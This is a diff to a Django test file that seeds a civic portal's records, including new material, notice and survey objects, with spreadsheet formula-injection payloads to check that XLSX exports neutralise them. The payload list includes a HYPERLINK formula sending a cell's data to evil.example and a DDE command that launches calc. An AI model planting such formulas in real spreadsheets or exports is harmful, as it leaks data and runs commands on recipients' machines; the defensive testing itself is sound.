@@ -16,11 +16,17 @@ from django.db import models
 from django.urls import URLPattern, URLResolver, get_resolver
 from openpyxl import load_workbook
 
-from campaigns.models import ImportJob, Membership
+import datetime as dt
+from types import SimpleNamespace
+
+from django.utils import timezone
+
+from campaigns.models import Campaign, ImportJob, Membership, Unit
 from civportal.xlsx import csv_safe
 from scores.models import MonthlyScore
 
 from ..api.world import build_world
+from ..materials.helpers import edition
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?p="&B2,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3",
             "\tTAB", "\rCR"]
@@ -47,8 +53,12 @@ def xlsx_routes() -> list[tuple[str, str]]:
 
 def poison(model, offset=0) -> int:
     """Put payloads into every free-text field of every row; returns how many fields were poisoned."""
+    # Scope path columns (``unit_path``, ``department_path``) are materialised unit paths, not text: a payload
+    # there would put the row out of everyone's scope, and no export would show it.
+    system_maintained = set(getattr(model, "SCOPE_PATHS", {}))
     fields = [f for f in model._meta.concrete_fields
-              if isinstance(f, (models.CharField, models.TextField)) and not f.choices and f.name not in SKIP_FIELDS]
+              if isinstance(f, (models.CharField, models.TextField)) and not f.choices
+              and f.name not in SKIP_FIELDS | system_maintained]
     for n, pk in enumerate(model.objects.values_list("pk", flat=True)):
         values = {}
         for i, f in enumerate(fields):
@@ -61,11 +71,43 @@ def poison(model, offset=0) -> int:
     return len(fields)
 
 
+def add_new_app_objects(city, personas, world) -> SimpleNamespace:
+    """A material call (with its owed answers), a notice, a survey with a wave and one free-text answer:
+    their text fields are poisoned below, the free-text answer carries a payload itself."""
+    from materials import services as materials
+    from notices import services as notices
+    from surveys import services as surveys
+    from surveys.models import Question
+
+    today = timezone.localdate()
+    system = edition()
+    campaign = Campaign.objects.create(name="2026材料", starts_on=dt.date(2026, 1, 1), ends_on=dt.date(2026, 12, 31),
+                                       status=Campaign.Status.ACTIVE, indicator_system=system)
+    indicator = system.indicators.get(code="1.1.1.1")
+    call = materials.material_call_create(actor=personas.supervisor, campaign=campaign, indicator=indicator,
+                                          title="征集台账", evidence="请上传台账", deadline=today + dt.timedelta(days=10),
+                                          kind=Unit.Kind.STREET, within=city.district_a)
+    notice = notices.notice_publish(actor=personas.supervisor, title="创建工作通知", body="请各单位落实",
+                                    target_root=city.district_a)
+    survey = surveys.survey_create(actor=personas.supervisor, name="满意度调查", standard=True)
+    wave = surveys.wave_create(actor=personas.supervisor, survey=survey, campaign=world.plan.campaign, name="第一轮",
+                               starts_on=today - dt.timedelta(days=1), ends_on=today + dt.timedelta(days=30),
+                               units=[city.street_a1], quota=10)
+    target = wave.targets.get()
+    text_question = survey.questions.get(kind=Question.Kind.TEXT)
+    answers = {q.key: {Question.Kind.YESNO: "yes", Question.Kind.RATING: "5", Question.Kind.SINGLE: "u30"}[q.kind]
+               for q in survey.questions.exclude(kind=Question.Kind.TEXT)}
+    answers[text_question.key] = PAYLOADS[0]
+    surveys.response_submit(target=target, device="device-1", data=answers)
+    return SimpleNamespace(campaign=campaign, call=call, notice=notice, survey=survey, wave=wave)
+
+
 @pytest.fixture
 def poisoned(city, personas):
     from django.apps import apps
 
     world = build_world(city, personas)
+    world.extra = add_new_app_objects(city, personas, world)
     MonthlyScore.objects.update(rank=1)
     ImportJob.objects.update(errors=[{"row": 2, "column": p, "message": p} for p in PAYLOADS])
     poisoned_models = []
@@ -73,7 +115,8 @@ def poisoned(city, personas):
                   "campaigns.PointType", "campaigns.Point", "campaigns.WorkItem", "campaigns.Membership",
                   "campaigns.User", "inspections.Finding", "inspections.FindingCategory",
                   "inspections.RectificationTask", "volunteers.Volunteer", "volunteers.Team", "volunteers.Activity",
-                  "volunteers.Signup"]:
+                  "volunteers.Signup", "materials.MaterialCall", "materials.MaterialSubmission",
+                  "notices.Notice", "surveys.Survey", "surveys.Question", "surveys.SurveyWave"]:
         try:
             model = apps.get_model(label)
         except LookupError:
@@ -86,7 +129,9 @@ def poisoned(city, personas):
 
 def route_url(route: str, world) -> str:
     ids = {"campaigns/<int:pk>/ledger": world.plan.campaign.pk, "editions/<int:pk>": world.plan.system.pk,
-           "imports/<int:pk>": world.job.pk, "activities/<int:pk>": world.activity.pk}
+           "imports/<int:pk>": world.job.pk, "activities/<int:pk>": world.activity.pk,
+           "materials/campaigns/<int:pk>": world.extra.campaign.pk, "notices/<int:pk>": world.extra.notice.pk,
+           "surveys/waves/<int:pk>": world.extra.wave.pk}
     url = "/" + route
     for prefix, pk in ids.items():
         if prefix in route:
